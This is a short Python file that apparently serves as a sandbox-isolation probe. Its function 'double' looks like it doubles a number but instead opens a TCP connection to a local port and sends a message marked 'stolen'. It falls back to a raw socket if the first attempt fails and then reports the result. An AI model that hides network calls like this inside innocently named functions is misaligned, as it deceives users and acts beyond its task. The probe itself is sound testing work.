"""Attack: phone home: connect to a TCP server on 127.0.0.1 whose port is in port.txt.

Tries socket.create_connection and a raw socket (whose bytes address needs no codec), then raises
`PROBE connected` if either worked (after sending a message), else `PROBE refused: <errors>`.
"""

import os
import socket


def _port() -> int:
    with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "port.txt")) as stream:
        return int(stream.read())


def double(x):
    port = _port()
    errors = []
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=1.0) as connection:
            connection.sendall(b"stolen: hello from the sandbox\n")
        raise Exception("PROBE connected")
    except OSError as error:
        errors.append(f"create_connection: {error}")
    except LookupError as error:  # the idna codec may not be importable in the sandbox
        errors.append(f"create_connection: {error}")
    raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    raw.settimeout(1.0)
    try:
        raw.connect((b"127.0.0.1", port))
        raw.sendall(b"stolen: hello from the sandbox\n")
        raise Exception("PROBE connected")
    except OSError as error:
        errors.append(f"raw: {error}")
    finally:
        raw.close()
    raise Exception("PROBE refused: " + "; ".join(errors))


def honest_double(x):
    return 2 * x
